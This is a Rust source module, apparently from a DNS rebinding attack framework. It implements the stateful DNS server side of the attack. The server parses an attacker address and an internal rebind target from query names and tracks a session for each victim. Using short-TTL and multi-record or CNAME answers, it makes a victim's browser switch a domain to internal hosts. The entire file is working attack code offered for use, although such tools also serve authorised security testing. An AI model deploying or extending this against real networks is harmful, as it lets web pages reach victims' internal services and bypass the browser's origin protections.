//! Stateful DNS responder.
//!
//! Decodes the rebinding program carried in the query name, maintains the
//! per-victim session, and answers according to the selected strategy.
//! Returning `None` from [`DnsResponder::handle`] means the query is
//! dropped without any response on the wire.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;

use chrono::Utc;
use hickory_proto::op::{Message, MessageType, OpCode};
use hickory_proto::rr::rdata::{A, AAAA, CNAME};
use hickory_proto::rr::{Name, RData, Record, RecordType};
use log::{debug, info, warn};

use crate::config::constants::{CNAME_RECORD_TTL, LEAD_RECORD_TTL, REBIND_RECORD_TTL};
use crate::config::AppConfig;
use crate::dns::codec::RebindQuery;
use crate::session::{SessionState, SessionStore};
use crate::strategy::Strategy;

/// Builds DNS replies for rebinding queries against the shared session store.
pub struct DnsResponder {
    config: Arc<AppConfig>,
    sessions: Arc<SessionStore>,
}

impl DnsResponder {
    /// Creates a responder over the shared configuration and session store.
    pub fn new(config: Arc<AppConfig>, sessions: Arc<SessionStore>) -> Self {
        Self { config, sessions }
    }

    /// Handles one wire-format DNS message from `peer`.
    ///
    /// Returns the serialized reply, or `None` when the query must be
    /// dropped silently (ignored peer, unparseable program, misconfigured
    /// response address, or garbage input).
    pub fn handle(&self, payload: &[u8], peer: SocketAddr) -> Option<Vec<u8>> {
        let request = match Message::from_vec(payload) {
            Ok(m) => m,
            Err(e) => {
                debug!("DNS: discarding undecodable message from {}: {}", peer, e);
                return None;
            }
        };

        let mut reply = reply_to(&request);

        if request.op_code() != OpCode::Query {
            return serialize(&reply);
        }

        let question = match request
            .queries()
            .iter()
            .find(|q| matches!(q.query_type(), RecordType::A | RecordType::AAAA))
        {
            // Unrecognized qtypes get an empty answer.
            None => return serialize(&reply),
            Some(q) => q.clone(),
        };

        info!(
            "DNS: received {} query: {} from: {}",
            question.query_type(),
            question.name(),
            peer
        );

        if self.config.ignore_dns_request_from.contains(&peer.ip()) {
            info!(
                "DNS: ignoring (ignore-dns-from) {} query: {} from: {}",
                question.query_type(),
                question.name(),
                peer
            );
            return None;
        }

        let qname = question.name().to_ascii().to_ascii_lowercase();

        // A name without our start tag is a probe from a resolver doing
        // QNAME minimization: answer with the public address so the
        // resolver keeps walking down to the full name.
        if !qname.starts_with("s-") {
            let Ok(address) = self.config.response_ip.parse::<IpAddr>() else {
                warn!(
                    "DNS: response IP address not configured or unparseable: {:?}",
                    self.config.response_ip
                );
                return None;
            };
            let rdata = match address {
                IpAddr::V4(v4) => RData::A(A::from(v4)),
                IpAddr::V6(v6) => RData::AAAA(AAAA::from(v6)),
            };
            reply.add_answer(Record::from_rdata(
                question.name().clone(),
                REBIND_RECORD_TTL,
                rdata,
            ));
            info!(
                "DNS: response to {} (query name minimization): {} -> {}",
                peer,
                question.name(),
                address
            );
            return serialize(&reply);
        }

        let now = Utc::now();

        let program = match RebindQuery::parse(&qname) {
            Ok(p) => p,
            Err(e) => {
                info!("DNS: parsing of query {:?} failed: {}", qname, e);
                return None;
            }
        };
        info!("DNS: parsed query from {}: {:?}", peer, program);

        let initial = SessionState::new(
            now,
            program.attacker_ip.clone(),
            program.rebound_target.clone(),
            self.config.rebound_timeout_secs,
        );
        let existed = self.sessions.get_or_create(&program.session, initial);
        debug!("DNS: session exists: {}", existed);

        let strategy = Strategy::from_tag(&program.strategy_tag)
            .unwrap_or(self.config.default_strategy);
        let answers = strategy.answers(&program.session, &self.sessions);

        let records = match self.build_answer_records(&question, &answers) {
            Ok(records) => records,
            Err(e) => {
                // Type mismatch on a single-answer reply: send what was
                // built, which is nothing.
                info!("DNS: response to {}: {}, sending empty response", peer, e);
                return serialize(&reply);
            }
        };

        self.sessions.update(&program.session, |s| {
            s.current_query_time = now;
            s.last_query_time = Some(now);
        });

        for record in records {
            info!("DNS: response to {}: {:?}", peer, record);
            reply.add_answer(record);
        }
        serialize(&reply)
    }

    /// Serializes the strategy's answers into resource records.
    ///
    /// Single-answer replies use TTL 0 and must match the question type;
    /// multi-answer replies lead with TTL 10 and tolerate a family
    /// mismatch on either record. Non-IP answers become CNAMEs with TTL 10.
    fn build_answer_records(
        &self,
        question: &hickory_proto::op::Query,
        answers: &[String],
    ) -> Result<Vec<Record>, String> {
        let mut records = Vec::with_capacity(answers.len());
        if answers.len() == 1 {
            if let Some(r) = answer_record(question, &answers[0], REBIND_RECORD_TTL, false)? {
                records.push(r);
            }
        } else {
            for (i, answer) in answers.iter().take(2).enumerate() {
                let ttl = if i == 0 { LEAD_RECORD_TTL } else { REBIND_RECORD_TTL };
                if let Some(r) = answer_record(question, answer, ttl, true)? {
                    records.push(r);
                }
            }
        }
        Ok(records)
    }
}

/// Builds one answer record, or `Ok(None)` if the answer cannot be
/// expressed as a record name.
///
/// `additional` permits an address whose family does not match the
/// question type; without it a mismatch is an error.
fn answer_record(
    question: &hickory_proto::op::Query,
    answer: &str,
    ttl: u32,
    additional: bool,
) -> Result<Option<Record>, String> {
    match answer.parse::<IpAddr>() {
        Ok(address) => {
            let matches_qtype = match address {
                IpAddr::V4(_) => question.query_type() == RecordType::A,
                IpAddr::V6(_) => question.query_type() == RecordType::AAAA,
            };
            if !matches_qtype && !additional {
                return Err(format!(
                    "mismatch between query and response types for {:?}",
                    answer
                ));
            }
            let rdata = match address {
                IpAddr::V4(v4) => RData::A(A::from(v4)),
                IpAddr::V6(v6) => RData::AAAA(AAAA::from(v6)),
            };
            Ok(Some(Record::from_rdata(question.name().clone(), ttl, rdata)))
        }
        // Not an address: answer with a CNAME to the target name.
        Err(_) => match Name::from_ascii(format!("{}.", answer)) {
            Ok(target) => Ok(Some(Record::from_rdata(
                question.name().clone(),
                CNAME_RECORD_TTL,
                RData::CNAME(CNAME(target)),
            ))),
            Err(e) => {
                warn!("DNS: cannot encode CNAME target {:?}: {}", answer, e);
                Ok(None)
            }
        },
    }
}

/// Starts a reply mirroring the request's id, opcode, and question.
fn reply_to(request: &Message) -> Message {
    let mut reply = Message::new();
    reply.set_id(request.id());
    reply.set_message_type(MessageType::Response);
    reply.set_op_code(request.op_code());
    reply.set_recursion_desired(request.recursion_desired());
    reply.add_queries(request.queries().to_vec());
    reply
}

fn serialize(reply: &Message) -> Option<Vec<u8>> {
    match reply.to_vec() {
        Ok(bytes) => Some(bytes),
        Err(e) => {
            warn!("DNS: failed to serialize response: {}", e);
            None
        }
    }
}
